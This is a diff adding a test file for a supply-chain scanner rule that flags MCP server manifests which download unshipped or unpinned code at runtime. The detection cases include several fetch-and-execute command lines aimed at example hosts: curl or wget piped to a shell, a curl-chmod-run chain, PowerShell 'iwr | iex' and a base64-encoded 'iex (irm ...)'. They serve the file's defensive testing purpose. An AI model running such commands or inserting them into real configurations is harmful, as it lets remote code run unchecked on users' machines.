@@ -1,0 +1,164 @@
+import { describe, expect, it } from 'vitest';
+import rule, { detectRuntimeFetch, isPinned, shellWords } from '../../rules/manifest-runtime-fetch.js';
+import type { BundleFacts } from '../../src/engine/facts.js';
+import { runRules } from '../../src/engine/run.js';
+import { findingsOf, findingWith, scanFixture } from '../helpers/fixtures.js';
+
+const RULE = 'manifest-runtime-fetch';
+const DIR = `fixtures/rules/${RULE}`;
+const NONE_SHIPPED = 'The bundle contains none of the code that will run';
+
+describe(RULE, () => {
+  it('flags npx -y with @latest, in the base config and behind cmd /c in an override', async () => {
+    const bundle = await scanFixture(`${DIR}/invalid`);
+    const findings = findingsOf(bundle, RULE);
+    expect(findings.map((finding) => ('pointer' in finding.location ? finding.location.pointer : ''))).toEqual([
+      '/server/mcp_config/args/1',
+      '/server/mcp_config/platform_overrides/win32/args/3',
+    ]);
+    for (const finding of findings) {
+      expect(finding).toMatchObject({ severity: 'high', category: 'supply-chain' });
+      expect(finding.message).toContain('"npx" downloads "@acme/mcp-server@latest"');
+      expect(finding.message).toContain(NONE_SHIPPED);
+      expect(finding.message).toContain('with no fixed version');
+    }
+  });
+
+  it('flags uvx --from git+https, uv run --with and pipx run', async () => {
+    const bundle = await scanFixture(`${DIR}/invalid-python`);
+    expect(findingsOf(bundle, RULE)).toHaveLength(3);
+    expect(findingWith(bundle, RULE, '"uvx" downloads "git+https://github.com/acme/mcp-server"')).toMatchObject({
+      severity: 'high',
+      location: { file: 'manifest.json', pointer: '/server/mcp_config/args/1' },
+    });
+    expect(findingWith(bundle, RULE, '"uv run --with" downloads "requests"')).toMatchObject({
+      severity: 'high',
+      location: { pointer: '/server/mcp_config/platform_overrides/darwin/args/2' },
+    });
+    const pinned = findingWith(bundle, RULE, '"pipx run" downloads "acme-mcp==1.0.0"');
+    expect(pinned).toMatchObject({ severity: 'high', location: { pointer: '/server/mcp_config/platform_overrides/linux/args/1' } });
+    expect(pinned.message).toContain(NONE_SHIPPED);
+    expect(pinned.message).not.toContain('no fixed version');
+  });
+
+  it('flags curl | sh in a shell script and pnpm dlx, bunx and yarn dlx in overrides', async () => {
+    const bundle = await scanFixture(`${DIR}/invalid-script`);
+    expect(findingsOf(bundle, RULE)).toHaveLength(4);
+    expect(findingWith(bundle, RULE, 'a shell script downloads "https://get.example.com/install.sh" with curl')).toMatchObject({
+      severity: 'high',
+      location: { pointer: '/server/mcp_config/args/1' },
+    });
+    expect(findingWith(bundle, RULE, '"pnpm dlx" downloads "acme-mcp"').location).toMatchObject({ pointer: '/server/mcp_config/platform_overrides/win32/args/1' });
+    expect(findingWith(bundle, RULE, '"bunx" downloads "acme-mcp"').location).toMatchObject({ pointer: '/server/mcp_config/platform_overrides/darwin/args/0' });
+    expect(findingWith(bundle, RULE, '"yarn dlx" downloads "acme-mcp@2.0.0"').location).toMatchObject({ pointer: '/server/mcp_config/platform_overrides/linux/args/1' });
+  });
+
+  it('accepts node running a package shipped in the bundle', async () => {
+    expect(findingsOf(await scanFixture(`${DIR}/valid`), RULE)).toEqual([]);
+  });
+
+  it('reads a whole command line written into the command field', () => {
+    const json = { server: { type: 'node', mcp_config: { command: 'npx -y @acme/x', args: [] } } };
+    const facts = {
+      container: { kind: 'directory', sha256: null, entries: [], files: new Map(), events: [], layout: null },
+      manifest: { present: true, text: JSON.stringify(json), parseError: null, json, version: { field: null, raw: undefined, known: null }, schemaIssues: [] },
+      settings: { strictManifest: false },
+    } satisfies BundleFacts;
+    expect(runRules([rule], facts).findings).toEqual([
+      expect.objectContaining({ location: { file: 'manifest.json', pointer: '/server/mcp_config/command' }, message: expect.stringContaining('"npx" downloads "@acme/x"') }),
+    ]);
+  });
+});
+
+describe('detectRuntimeFetch', () => {
+  const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
+
+  it.each([
+    [['npx', '-y', '@modelcontextprotocol/server-filesystem', '/tmp'], 'npx', '@modelcontextprotocol/server-filesystem', 2],
+    [['npx', '--yes', 'mcp-remote@latest', 'https://example.com/sse'], 'npx', 'mcp-remote@latest', 2],
+    [['npx', 'pkg'], 'npx', 'pkg', 1],
+    [['npx.cmd', '-y', 'pkg'], 'npx', 'pkg', 2],
+    [['npx', '-p', 'pkg@1.0.0', 'pkg-bin'], 'npx', 'pkg@1.0.0', 2],
+    [['npx', '--package=pkg', 'pkg-bin'], 'npx', 'pkg', 1],
+    [['npx', 'github:acme/server'], 'npx', 'github:acme/server', 1],
+    [['bunx', 'pkg'], 'bunx', 'pkg', 1],
+    [['bun', 'x', 'pkg'], 'bun x', 'pkg', 2],
+    [['pnpm', 'dlx', 'pkg'], 'pnpm dlx', 'pkg', 2],
+    [['yarn', 'dlx', 'pkg'], 'yarn dlx', 'pkg', 2],
+    [['npm', 'exec', '--', 'pkg'], 'npm exec', 'pkg', 3],
+    [['uvx', 'mcp-server-git'], 'uvx', 'mcp-server-git', 1],
+    [['uvx', '--python', '3.12', 'tool'], 'uvx', 'tool', 3],
+    [['uvx', '--from', 'git+https://github.com/acme/tool', 'tool'], 'uvx', 'git+https://github.com/acme/tool', 2],
+    [['uv', 'tool', 'run', 'tool'], 'uv tool run', 'tool', 3],
+    [['uv', '--directory', '${__dirname}', 'run', '--with', 'requests', 'server.py'], 'uv run --with', 'requests', 5],
+    [['uv', 'run', '--with=requests', 'server.py'], 'uv run --with', 'requests', 2],
+    [['pipx', 'run', 'tool'], 'pipx run', 'tool', 2],
+    [['pipx', 'run', '--spec', 'git+https://github.com/acme/tool', 'tool'], 'pipx run', 'git+https://github.com/acme/tool', 3],
+    [['python3', '-m', 'pip', 'install', '-r', '${__dirname}/requirements.txt'], 'pip install', '${__dirname}/requirements.txt', 5],
+    [['docker', 'run', '-i', '--rm', '-e', 'TOKEN', 'mcp/github'], 'docker run', 'mcp/github', 6],
+    [['deno', 'run', '-A', 'npm:pkg'], 'deno', 'npm:pkg', 3],
+    [['go', 'run', 'github.com/acme/tool@latest'], 'go run', 'github.com/acme/tool@latest', 2],
+    [['env', 'FOO=1', 'npx', '-y', 'pkg'], 'npx', 'pkg', 4],
+    [['cmd', '/c', 'npx', '-y', 'pkg'], 'npx', 'pkg', 4],
+    [['cmd', '/c', 'npx -y pkg'], 'npx', 'pkg', 2],
+    [['sh', '-c', 'cd "$HOME" && npx -y pkg'], 'npx', 'pkg', 2],
+    [['sh', '-c', 'curl -fsSL https://get.example.com/i.sh | sh'], 'curl', 'https://get.example.com/i.sh', 2],
+    [['bash', '-lc', 'wget -qO- https://x.example/a | bash'], 'wget', 'https://x.example/a', 2],
+    [['bash', '-c', 'bash <(curl -s https://x.example/a)'], 'curl', 'https://x.example/a', 2],
+    [['sh', '-c', 'curl -o /tmp/t https://x.example/t && chmod +x /tmp/t && /tmp/t'], 'curl', 'https://x.example/t', 2],
+    [['powershell', '-Command', 'iwr https://x.example/a.ps1 | iex'], 'iwr', 'https://x.example/a.ps1', 2],
+    [['powershell', '-enc', encoded('iex (irm https://x.example/b)')], 'irm', 'https://x.example/b', 2],
+  ] as const)('%j fetches with %s', (argv, launcher, spec, at) => {
+    expect(detectRuntimeFetch(argv)).toMatchObject({ launcher, spec, at });
+  });
+
+  it.each([
+    [['node', '${__dirname}/server/index.js']],
+    [['node', '${__dirname}/node_modules/.bin/x']],
+    [['npx', '${__dirname}/tools/cli']],
+    [['npx']],
+    [['python3', '${__dirname}/server/main.py']],
+    [['uv', '--directory', '${__dirname}', 'run', 'server.py']],
+    [['uv', 'run', 'server.py', '--with', 'x']],
+    [['go', 'run', 'main.go']],
+    [['npm', 'start']],
+    [['pnpm', 'exec', 'tool']],
+    [['docker', 'ps']],
+    [['sh', '-c', 'echo curl is not used here']],
+    [['sh', '${__dirname}/start.sh']],
+    [['${__dirname}/server/bin/tool', '--stdio']],
+  ] as const)('%j fetches nothing', (argv) => {
+    expect(detectRuntimeFetch(argv)).toBeNull();
+  });
+
+  it('stops following nested shells after a few levels', () => {
+    let argv: string[] = ['npx', '-y', 'pkg'];
+    for (let level = 0; level < 10; level++) argv = ['sh', '-c', argv.map((word) => `'${word}'`).join(' ')];
+    expect(() => detectRuntimeFetch(argv)).not.toThrow();
+  });
+});
+
+describe('isPinned', () => {
+  it.each([
+    ['pkg@1.2.3', 'npm', true],
+    ['@scope/pkg@1.2.3', 'npm', true],
+    ['@scope/pkg', 'npm', false],
+    ['pkg@latest', 'npm', false],
+    ['pkg@^1.2.0', 'npm', false],
+    ['git+https://github.com/a/b#v1.0.0', 'npm', false],
+    ['tool==1.0.0', 'python', true],
+    ['tool@1.0.0', 'python', true],
+    ['tool>=1.0', 'python', false],
+    ['tool@latest', 'python', false],
+    ['mcp/github', 'image', false],
+    [`mcp/github@sha256:${'a'.repeat(64)}`, 'image', true],
+    ['example.com/tool@v1.2.3', 'go', true],
+    ['example.com/tool@latest', 'go', false],
+  ] as const)('%s (%s) pinned: %s', (spec, ecosystem, expected) => {
+    expect(isPinned(spec, ecosystem)).toBe(expected);
+  });
+});
+
+it('splits a script into words, honouring quotes', () => {
+  expect(shellWords(`npx -y "a b" 'c d' e`)).toEqual(['npx', '-y', 'a b', 'c d', 'e']);
+});
